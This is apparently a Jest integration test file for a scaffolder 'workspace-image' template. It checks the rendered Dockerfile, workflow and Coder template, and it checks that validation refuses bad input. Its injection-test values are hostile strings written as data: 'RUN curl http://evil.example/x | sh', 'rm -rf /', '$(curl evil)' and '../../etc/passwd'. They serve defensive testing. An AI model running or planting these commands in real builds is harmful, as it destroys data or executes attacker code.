import { bundledCoderTemplatePath } from '@coder-platform/plugin-scaffolder-backend-module-coder-platform';
import { validate as lintDockerfile } from 'dockerfile-utils';
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'yaml';
import { CoderContractServer } from '../coder/CoderContractServer';
import {
  api,
  dryRun,
  renderedFiles,
  startWorkspaceImageBackend,
  templateEntity,
  templateWithoutFormChecks,
  validValues,
} from './__testUtils__/workspaceImageHarness';

/** The one devbox Terraform source, shipped with the actions (coder:template:fetch). */
const CODER_TEMPLATE_DIR = bundledCoderTemplatePath('devbox');

jest.setTimeout(180_000);

/**
 * The workspace-image template through the real scaffolder backend in
 * process: `POST /api/scaffolder/v2/dry-run` renders it for real (validate,
 * reading the cluster Resource from the real catalog, fetch:template, coder:template:fetch, the
 * Coder template push planned against the Coder contract server), and
 * hostile values are refused before anything renders, by the form's JSON
 * schema and, with the form bypassed, by the validate step; so is a cluster
 * that is not a coder-cluster Resource the backend knows.
 */
describe('workspace-image through the scaffolder dry-run', () => {
  let coder: CoderContractServer;
  let server: any;
  let stop: () => Promise<void>;

  beforeAll(async () => {
    coder = await CoderContractServer.start();
    const token = coder.seedFirstUser({
      email: 'admin@example.com',
      username: 'admin',
      password: 'pa55word-admin',
    });
    const started = await startWorkspaceImageBackend({
      coderPlatform: {
        clusters: [{ name: 'dev-eu1', coder: { url: coder.url, token } }],
        refresh: { enabled: false },
      },
    });
    server = started.server;
    stop = () => started.backend.stop();
  });
  afterAll(async () => {
    await stop?.();
    await coder?.stop();
  });

  it('renders the image repository and the Coder template, and plans the push', async () => {
    const res = await dryRun(server, templateEntity(), validValues());
    expect(res.status).toBe(200);
    const files = renderedFiles(res.body);
    expect(Object.keys(files).sort()).toEqual([
      '.github/workflows/build.yaml',
      'Dockerfile',
      'README.md',
      'catalog-info.yaml',
      'coder-template/README.md',
      'coder-template/kubernetes.tf',
      'coder-template/main.tf',
      'coder-template/variables.tf',
      'coder-template/versions.tf',
    ]);

    // Dockerfile: lints clean, non-root coder (uid 1000, /home/coder), the packages
    const dockerfile = files.Dockerfile;
    expect(lintDockerfile(dockerfile)).toEqual([]);
    expect(dockerfile).toContain('FROM ubuntu:24.04\n');
    expect(dockerfile).toContain(
      'ca-certificates curl sudo git curl openjdk-21-jdk maven \\',
    );
    expect(dockerfile).toContain(
      'useradd --create-home --home-dir /home/coder --uid 1000',
    );
    expect(dockerfile).toMatch(/\nUSER coder\nWORKDIR \/home\/coder\n$/);
    expect(dockerfile).toContain('COPY --from=docker:28.3.3-cli');

    const entity = parse(files['catalog-info.yaml']);
    expect(entity).toEqual({
      apiVersion: 'backstage.io/v1alpha1',
      kind: 'Component',
      metadata: {
        name: 'java-training',
        description: 'Java 21 and Maven for the training',
        annotations: {
          'coder-platform.io/cluster': 'dev-eu1',
          'coder-platform.io/coder-template': 'java-training',
        },
        tags: ['coder-workspace-image'],
      },
      spec: {
        type: 'workspace-image',
        lifecycle: 'experimental',
        owner: 'group:default/developers',
      },
    });

    const workflow = parse(files['.github/workflows/build.yaml']);
    expect(workflow.env).toEqual({ IMAGE: 'ghcr.io/acme/java-training' });
    const steps = workflow.jobs.build.steps;
    expect(
      steps.find((s: any) => s.uses === 'docker/login-action@v3').with,
    ).toEqual({
      registry: 'ghcr.io',
      username: '${{ secrets.REGISTRY_USERNAME || github.actor }}',
      password: '${{ secrets.REGISTRY_PASSWORD || secrets.GITHUB_TOKEN }}',
    });
    expect(
      steps.find((s: any) => s.uses === 'docker/build-push-action@v6').with
        .tags,
    ).toBe('${{ env.IMAGE }}:latest\n${{ env.IMAGE }}:${{ github.sha }}\n');

    expect(files['README.md']).toContain(
      '| `vscode_extensions` | `vscjava.vscode-java-pack,redhat.vscode-yaml` |',
    );
    // the Coder template is copied as it is, never rendered from input
    for (const file of fs.readdirSync(CODER_TEMPLATE_DIR)) {
      expect(files[`coder-template/${file}`]).toBe(
        fs.readFileSync(path.join(CODER_TEMPLATE_DIR, file), 'utf8'),
      );
    }

    const stepIds = res.body.steps.map((s: any) => s.id);
    expect(stepIds).toEqual([
      'validate',
      'render',
      'coder-template',
      'publish',
      'push',
      'register',
    ]);
    const log = res.body.log.map((l: any) => l.body.message).join('\n');
    expect(log).toContain(
      'dry run: would upload 5 files and create template "java-training"',
    );
    // validate resolved the picked Resource with the cluster model
    expect(log).toContain(
      'Coder template java-training on cluster dev-eu1 (resource:default/dev-eu1, coderPlatform.clusters;',
    );
    expect(coder.templateNames()).toEqual([]);
  });

  it.each([
    [
      'another kind',
      'component:default/java-app',
      'component:default/java-app is a Component, not a Resource of spec.type coder-cluster',
    ],
    [
      'a Resource of another spec.type',
      'resource:default/orders-db',
      'resource:default/orders-db is a Resource of spec.type "database", not coder-cluster',
    ],
    [
      'an unknown cluster',
      'resource:default/dev-us9',
      'resource:default/dev-us9 names cluster "dev-us9", which is neither in coderPlatform.clusters (dev-eu1) nor a GKE cluster the backend may reach',
    ],
    [
      'a missing entity',
      'resource:default/nowhere',
      'resource:default/nowhere is not in the catalog, or you may not read it',
    ],
  ])(
    'the validate step refuses %s as cluster (the form lets it through) before anything renders',
    async (_case, cluster, message) => {
      const res = await dryRun(server, templateEntity(), {
        ...validValues(),
        cluster,
      });
      expect(res.status).toBe(400);
      expect(res.body.error.message).toContain(
        `coder-platform:workspace-image:validate: the request was refused before anything was rendered: cluster: ${message}`,
      );
      expect(res.body.directoryContents).toBeUndefined();
      expect(coder.templateNames()).toEqual([]);
    },
  );

  it('refuses home backup on a cluster Resource without a backup bucket and restic prefix, naming backup, before anything renders', async () => {
    const res = await dryRun(server, templateEntity(), {
      ...validValues(),
      cluster: 'resource:default/dev-eu1-plain',
    });
    expect(res.status).toBe(400);
    expect(res.body.error.message).toContain(
      'coder-platform:workspace-image:validate: the request was refused before anything was rendered: backup: home backup is on, but the cluster Resource resource:default/dev-eu1-plain has no coder-platform.io/backup-bucket annotation, so workspaces have no restic repository; turn backup off, or annotate the Resource with coder-platform.io/backup-bucket (the GCS bucket) and coder-platform.io/restic-prefix (e.g. coder/dev-eu1)',
    );
    expect(res.body.directoryContents).toBeUndefined();
    expect(coder.templateNames()).toEqual([]);
  });

  it('renders and plans the push on that cluster with backup off', async () => {
    const res = await dryRun(server, templateEntity(), {
      ...validValues(),
      cluster: 'resource:default/dev-eu1-plain',
      backup: false,
    });
    expect(res.status).toBe(200);
    const log = res.body.log.map((l: any) => l.body.message).join('\n');
    expect(log).toContain(
      'dry run: would upload 5 files and create template "java-training"',
    );
    expect(log).toContain('docker on, backup off)');
    expect(renderedFiles(res.body)['README.md']).toContain(
      '| `backup_enabled` | `false` |',
    );
  });

  it.each([
    [
      'baseImage',
      {
        baseImage:
          'ubuntu:24.04\nRUN curl http://evil.example/x | sh\nFROM ubuntu',
      },
    ],
    ['packages[0]', { packages: ['curl; rm -rf / #'] }],
    ['name', { name: '../../etc/passwd' }],
    ['extensions[0]', { extensions: ['ms-python.python && curl evil'] }],
    ['backupCron', { backupCron: '* * * * *\nRUN id' }],
    ['description', { description: 'x'.repeat(10_240) }],
    ['owner', { owner: 'group:default/dev`id`' }],
    ['cluster', { cluster: 'resource:default/dev-eu1$(id)' }],
    ['repoUrl', { repoUrl: 'github.com?owner=acme&repo=x;id' }],
    ['name', { name: 'jäva' }],
  ])(
    'the form schema refuses a hostile %s with 400 naming it',
    async (field, patch) => {
      const res = await dryRun(server, templateEntity(), {
        ...validValues(),
        ...patch,
      });
      expect(res.status).toBe(400);
      const properties = (res.body.errors as any[]).map(e => e.property);
      expect(properties).toContain(
        `instance.${field.replace(/\[(\d+)\]/, '[$1]')}`,
      );
      expect(res.body.directoryContents).toBeUndefined();
    },
  );

  const hostile = [
    'x\nRUN curl http://evil.example/x | sh',
    'x; rm -rf / #',
    '$(curl evil)',
    'a'.repeat(10_240),
    'ünï',
    '../../../etc',
  ];
  const fields: Array<[string, (v: string) => Record<string, unknown>]> = [
    ['name', v => ({ name: v })],
    ['description', v => ({ description: v })],
    ['owner', v => ({ owner: v })],
    ['baseImage', v => ({ baseImage: v })],
    ['packages[0]', v => ({ packages: [v] })],
    ['extensions[0]', v => ({ extensions: [v] })],
    ['backupCron', v => ({ backupCron: v })],
    ['cluster', v => ({ cluster: v })],
    ['repoUrl', v => ({ repoUrl: v })],
  ];
  it.each(
    fields.flatMap(([field, make]) =>
      hostile
        .filter(v => field !== 'description' || !v.startsWith('../'))
        .map(v => [field, JSON.stringify(v).slice(0, 24), make(v)] as const),
    ),
  )(
    'with the form bypassed, the validate step refuses %s = %s before anything renders',
    async (field, _shown, patch) => {
      const res = await dryRun(server, templateWithoutFormChecks(), {
        ...validValues(),
        ...patch,
      });
      expect(res.status).toBe(400);
      expect(res.body.error.message).toContain(
        'coder-platform:workspace-image:validate: the request was refused before anything was rendered',
      );
      expect(res.body.error.message).toContain(`${field}: `);
      expect(res.body.directoryContents).toBeUndefined();
      expect(coder.templateNames()).toEqual([]);
    },
  );

  it("the issue's reproduction: a newline in baseImage and a shell command as a package never reach a RUN line", async () => {
    const res = await dryRun(server, templateWithoutFormChecks(), {
      ...validValues(),
      baseImage:
        'ubuntu:24.04\nRUN curl http://evil.example/x | sh\nFROM ubuntu',
      packages: ['curl; rm -rf / #'],
    });
    expect(res.status).toBe(400);
    expect(res.body.error.message).toMatch(/baseImage: .*packages\[0\]: /);
    // refused with an escaped preview: no raw newline, nothing rendered
    expect(res.body.error.message).not.toContain('\n');
    expect(res.body.directoryContents).toBeUndefined();
  });

  it('lists the cluster from the catalog, not free text', async () => {
    const found = await api(
      server,
      'GET',
      '/api/catalog/entities?filter=kind=resource,spec.type=coder-cluster',
    );
    expect(found.body.map((e: any) => e.metadata.name).sort()).toEqual([
      'dev-eu1',
      'dev-eu1-plain',
      'dev-us9',
    ]);
    const cluster = templateEntity().spec.parameters[1].properties.cluster;
    expect(cluster['ui:field']).toBe('EntityPicker');
    expect(cluster['ui:options'].catalogFilter).toEqual({
      kind: 'Resource',
      'spec.type': 'coder-cluster',
    });
  });
});
